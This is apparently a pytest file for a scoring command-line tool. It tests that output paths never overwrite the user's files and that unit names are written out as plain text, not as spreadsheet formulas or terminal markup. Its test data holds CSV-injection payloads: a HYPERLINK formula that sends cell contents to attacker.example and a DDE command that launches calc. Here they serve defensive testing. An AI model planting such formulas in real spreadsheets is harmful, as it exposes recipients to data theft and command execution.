"""Hostile outputs: `-o` never destroys what kaohe did not write; data never becomes a formula or markup.

Threats: `kaohe score … -o DIR` replacing a folder of the user's files, the
working directory or the inputs; `-o` naming a file; unit names that a
spreadsheet runs (=HYPERLINK, =cmd|…, +, -, @) in results.xlsx, results.csv and
templates; unit names that rich reads as markup ([/x]) crashing the terminal output.
"""

from __future__ import annotations

import csv
import re
import zipfile

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from kaohe.cli import app
from schemes.atomic import MARKER
from scoring_schemes import scheme_003, write_long_csv

runner = CliRunner()

#: Unit names that spreadsheets would run as formulas or DDE commands (OWASP CSV injection).
HOSTILE_UNITS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-3+4",
    "@SUM(A1:A2)",
]
#: The same without commas: a unit list file takes the first comma-separated field of each line.
LISTED_UNITS = [u for u in HOSTILE_UNITS if "," not in u] + ['=HYPERLINK("http://attacker.example/?x="&A1)']


@pytest.fixture
def scheme_json(tmp_path):
    path = tmp_path / "in" / "003.json"
    path.parent.mkdir()
    path.write_text(scheme_003().model_dump_json(), encoding="utf-8")
    return path


def facts_for(tmp_path, units):
    return write_long_csv(tmp_path / "in" / "facts.csv", [(u, "1.1", "count", 1) for u in units])


def score(scheme, facts, out, *extra):
    return runner.invoke(app, ["score", str(scheme), str(facts), "-o", str(out), *extra])


def snapshot(folder):
    return {p.relative_to(folder): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


# --------------------------------------------------------------------------- -o never destroys


def test_a_folder_of_the_users_files_is_refused_and_untouched(tmp_path, scheme_json):
    out = tmp_path / "mine"
    out.mkdir()
    (out / "notes.docx").write_bytes(b"my work")
    result = score(scheme_json, facts_for(tmp_path, ["组织部"]), out)
    assert result.exit_code == 1
    assert "not empty and was not written by kaohe" in result.output
    assert snapshot(out) == {out.joinpath("notes.docx").relative_to(out): b"my work"}


def test_the_working_directory_is_refused(tmp_path, scheme_json, monkeypatch):
    facts = facts_for(tmp_path, ["组织部"])
    monkeypatch.chdir(tmp_path / "in")
    before = snapshot(tmp_path / "in")
    result = score(scheme_json, facts, ".")
    assert result.exit_code == 1 and "working directory" in result.output
    assert snapshot(tmp_path / "in") == before


def test_a_folder_holding_the_inputs_is_refused_even_if_kaohe_wrote_it(tmp_path, scheme_json):
    facts = facts_for(tmp_path, ["组织部"])
    (tmp_path / "in" / MARKER).write_text('{"files": ["003.json", "facts.csv"]}')
    before = snapshot(tmp_path / "in")
    result = score(scheme_json, facts, tmp_path / "in")
    assert result.exit_code == 1 and "holds this command's input" in result.output
    assert snapshot(tmp_path / "in") == before


def test_an_existing_file_is_refused_without_a_traceback(tmp_path, scheme_json):
    target = tmp_path / "results"
    target.write_text("keep me")
    result = score(scheme_json, facts_for(tmp_path, ["组织部"]), target)
    assert result.exit_code == 1 and "is a file, not a folder" in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert target.read_text() == "keep me"


def test_a_new_or_empty_folder_is_written_with_the_marker(tmp_path, scheme_json):
    out = tmp_path / "empty"
    out.mkdir()
    assert score(scheme_json, facts_for(tmp_path, ["组织部"]), out).exit_code == 0
    assert {MARKER, "results.csv", "results.xlsx", "results.json", "report.html"} <= {p.name for p in out.iterdir()}


def test_a_folder_kaohe_wrote_is_replaced_on_rerun(tmp_path, scheme_json):
    facts = facts_for(tmp_path, ["组织部"])
    out = tmp_path / "out"
    assert score(scheme_json, facts, out, "--explain").exit_code == 0
    assert score(scheme_json, facts, out).exit_code == 0
    assert not (out / "explanations.json").exists()  # the previous run's files went with it


def test_a_file_added_to_kaohes_folder_stops_the_replacement(tmp_path, scheme_json):
    facts = facts_for(tmp_path, ["组织部"])
    out = tmp_path / "out"
    assert score(scheme_json, facts, out).exit_code == 0
    (out / "my_analysis.xlsx").write_bytes(b"precious")
    result = score(scheme_json, facts, out)
    assert result.exit_code == 1 and "my_analysis.xlsx" in result.output
    assert (out / "my_analysis.xlsx").read_bytes() == b"precious"


def test_template_does_not_overwrite_an_existing_file(tmp_path, scheme_json):
    filled = tmp_path / "sub.xlsx"
    filled.write_bytes(b"a filled-in template")
    result = runner.invoke(app, ["template", str(scheme_json), "-o", str(filled)])
    assert result.exit_code == 1 and "already exists" in result.output
    assert filled.read_bytes() == b"a filled-in template"
    assert runner.invoke(app, ["template", str(scheme_json), "-o", str(filled), "--overwrite"]).exit_code == 0
    assert zipfile.is_zipfile(filled)


def test_template_refuses_an_unknown_suffix_and_the_scheme_itself(tmp_path, scheme_json):
    before = scheme_json.read_bytes()
    for target in (scheme_json, tmp_path / "t.json", tmp_path / "t.xls"):
        result = runner.invoke(app, ["template", str(scheme_json), "-o", str(target), "--overwrite"])
        assert result.exit_code == 1 and "must end in .xlsx or .csv" in result.output
    assert scheme_json.read_bytes() == before


# --------------------------------------------------------------------------- no formulas from data


def sheet_xml(path):
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")}


@pytest.fixture
def hostile_run(tmp_path, scheme_json):
    out = tmp_path / "out"
    result = score(scheme_json, facts_for(tmp_path, HOSTILE_UNITS), out)
    assert result.exit_code == 0, result.output
    return out


def test_results_workbook_has_no_formula_and_keeps_the_names_as_text(hostile_run):
    assert not any(re.search(r"<f[ >]", x) for x in sheet_xml(hostile_run / "results.xlsx").values())
    ws = load_workbook(hostile_run / "results.xlsx")["results"]
    cells = [row[1] for row in ws.iter_rows(min_row=2)]  # after 名次 (rank)
    assert sorted(c.value for c in cells) == sorted(HOSTILE_UNITS)
    assert {c.data_type for c in cells} == {"s"}


def test_results_csv_neutralises_formula_leading_cells(hostile_run):
    with open(hostile_run / "results.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert sorted(r[0] for r in rows[1:]) == sorted("'" + u for u in HOSTILE_UNITS)
    assert rows[1][5] == "-5"  # numbers stay numbers: only text cells are neutralised


def test_template_with_hostile_units_stores_text_cells(tmp_path, scheme_json):
    units = tmp_path / "units.txt"
    units.write_text("\n".join(LISTED_UNITS), encoding="utf-8")
    out = tmp_path / "t.xlsx"
    assert runner.invoke(app, ["template", str(scheme_json), "--units", str(units), "-o", str(out)]).exit_code == 0
    assert not any(re.search(r"<f[ >]", x) for x in sheet_xml(out).values())
    ws = load_workbook(out).worksheets[0]
    cells = [ws.cell(row=r, column=1) for r in range(2, 2 + len(LISTED_UNITS))]
    assert [c.value for c in cells] == LISTED_UNITS and {c.data_type for c in cells} == {"s"}


def test_csv_template_with_hostile_units_is_neutralised(tmp_path, scheme_json):
    units = tmp_path / "units.txt"
    units.write_text("\n".join(LISTED_UNITS), encoding="utf-8")
    out = tmp_path / "t.csv"
    assert runner.invoke(app, ["template", str(scheme_json), "--units", str(units), "-o", str(out)]).exit_code == 0
    with open(out, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert {r[0] for r in rows[1:]} == {"'" + u for u in LISTED_UNITS}


# --------------------------------------------------------------------------- no markup from data


def test_a_unit_name_that_looks_like_markup_is_printed_literally(tmp_path, scheme_json):
    result = score(scheme_json, facts_for(tmp_path, ["[/x]办公室", "[bold red]组织部"]), tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert "[/x]办公室" in result.output and "[bold red]组织部" in result.output


def test_an_error_quoting_markup_is_one_plain_line(tmp_path, scheme_json):
    units = tmp_path / "units.txt"
    units.write_text("组织部\n", encoding="utf-8")
    result = score(scheme_json, facts_for(tmp_path, ["[/x]办公室"]), tmp_path / "out", "--units", str(units))
    assert result.exit_code == 1 and "[/x]办公室" in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert not (tmp_path / "out").exists()


def test_schemes_export_and_review_export_refuse_before_opening_the_store(tmp_path):
    mine = tmp_path / "mine.json"
    mine.write_text("my notes")
    folder = tmp_path / "folder.xlsx"
    folder.mkdir()
    home = tmp_path / "home"
    for args, message in ((["schemes", "export", "1", "-o", str(mine)], "already exists"),
                          (["review", "export", "1", "-o", str(folder)], "is a folder"),
                          (["review", "export", "1", "-o", str(tmp_path / "sheet.csv")], "must end in .xlsx")):
        result = runner.invoke(app, [*args, "--home", str(home)])
        assert result.exit_code == 1 and message in result.output, args
    assert mine.read_text() == "my notes" and not home.exists()


def test_a_filled_csv_template_with_hostile_units_reads_back_the_original_names(tmp_path, scheme_json):
    from pipeline.scoring import score_file

    units = tmp_path / "units.txt"
    units.write_text("\n".join(LISTED_UNITS), encoding="utf-8")
    out = tmp_path / "t.csv"
    assert runner.invoke(app, ["template", str(scheme_json), "--units", str(units), "-o", str(out)]).exit_code == 0
    with open(out, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    with open(out, "w", encoding="utf-8", newline="") as f:  # filled in: 否 for yes/no inputs, else 0
        csv.writer(f).writerows([rows[0], *([u, i, n, "否" if n == "met" else "0", r, e] for u, i, n, _, r, e in rows[1:])])
    assert sorted(score_file(scheme_003(), out).units) == sorted(LISTED_UNITS)


def test_an_output_below_a_file_is_refused_without_a_traceback(tmp_path, scheme_json):
    facts = facts_for(tmp_path, ["组织部"])
    result = score(scheme_json, facts, facts / "out")
    assert result.exit_code == 1 and "is a file, so the folder cannot be made there" in result.output
    result = runner.invoke(app, ["template", str(scheme_json), "-o", str(facts / "t.xlsx")])
    assert result.exit_code == 1 and "is a file, so the file cannot be written there" in result.output


def test_writing_to_a_device_writes_through_it_and_never_replaces_it(tmp_path):
    import os
    import stat

    from schemes.atomic import write_text_atomic

    sink = tmp_path / "sink"
    sink.symlink_to("/dev/null")
    write_text_atomic(sink, "scheme")
    assert sink.is_symlink() and stat.S_ISCHR(os.stat("/dev/null").st_mode)
